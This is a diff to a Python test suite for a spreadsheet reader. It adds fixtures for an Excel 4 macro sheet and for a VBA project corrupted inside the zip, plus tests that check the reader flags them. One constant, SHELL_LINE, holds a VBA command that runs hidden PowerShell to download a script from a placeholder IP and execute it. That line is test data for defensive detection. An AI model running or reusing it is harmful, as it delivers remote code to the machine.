@@ -29,7 +29,7 @@ from toolkit.workbook.package import reproducible
 from toolkit.workbook.reader import READ_CODES, read_workbook
 from workbooks import CONSISTENT_2021, entries, info_of
 
-VBA_CODES = ("R-VBA-CHANGED", "R-VBA-UNREADABLE", "R-VBA-IN-XLSX", "R-EMBEDDED")
+VBA_CODES = ("R-VBA-CHANGED", "R-VBA-UNREADABLE", "R-VBA-IN-XLSX", "R-MACRO-SHEET", "R-EMBEDDED")
 QUICKSTART = Path(xlwings.__file__).parent / "quickstart.xlsm"  # saved by Excel: p-code before the sources
 SHELL_LINE = '    Shell "cmd.exe /c powershell -w hidden -c iwr http://198.51.100.7/a.ps1 | iex"'
 
@@ -106,9 +106,27 @@ def books(tmp_path_factory, macro_templates) -> dict[str, Path]:
     books["xlsx-with-vba-project"] = _with_project(filled, folder / "xlsx-with-vba-project.xlsx", None)
     books["embedded-ole-object"] = _with_project(filled, folder / "embedded-ole-object.xlsm", None, {
         "xl/embeddings/oleObject1.bin": write_compound_file(Storage({"\x01Ole10Native": b"MZ" + bytes(100)}))})
+    books["excel4-macro-sheet"] = _with_project(filled, folder / "excel4-macro-sheet.xlsm", None, {
+        "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'})
+    books["vba-project-corrupt-in-the-zip"] = _corrupt_in_zip(filled, folder / "vba-project-corrupt-in-the-zip.xlsm",
+                                                               "xl/vbaProject.bin")
     run_libreoffice([{"op": "resave", "in": str(filled), "out": str(folder / "resaved-by-libreoffice.xlsm")}])
     books["resaved-by-libreoffice"] = folder / "resaved-by-libreoffice.xlsm"
     return books
+
+
+def _corrupt_in_zip(source: Path, target: Path, part: str) -> Path:
+    """A copy with one part stored uncompressed and one of its bytes changed: its CRC fails."""
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename, src.read(info.filename),
+                         zipfile.ZIP_STORED if info.filename == part else zipfile.ZIP_DEFLATED)
+        body = src.read(part)
+    data = bytearray(target.read_bytes())
+    at = data.index(body) + len(body) // 2
+    data[at] ^= 0xFF
+    target.write_bytes(bytes(data))
+    return target
 
 
 def _project(path: Path) -> bytes:
@@ -187,6 +205,17 @@ def test_a_damaged_project_is_a_hint_that_it_cannot_be_read(books):
     assert f.message.startswith("工作簿中的宏（VBA 工程）无法读取（") and "请勿在 Excel 中启用宏" in f.message
     result = read_workbook(books["vba-project-damaged"])  # the figures are read as usual
     assert result.report.values["t3.new.natural"] == CONSISTENT_2021.values["t3.new.natural"]
+
+
+def test_a_project_damaged_in_the_zip_is_a_hint_and_the_figures_are_read(books):
+    f = _one(books["vba-project-corrupt-in-the-zip"])
+    assert f.code == "R-VBA-UNREADABLE" and "文件中的这一部分已损坏" in f.message
+    assert read_workbook(books["vba-project-corrupt-in-the-zip"]).report.unit == CONSISTENT_2021.unit
+
+
+def test_an_excel_4_macro_sheet_is_flagged(books):
+    f = _one(books["excel4-macro-sheet"])
+    assert f.code == "R-MACRO-SHEET" and "xl/macrosheets/sheet1.xml" in f.message
 
 
 def test_the_project_excel_loads_is_the_one_the_relationship_names(books):
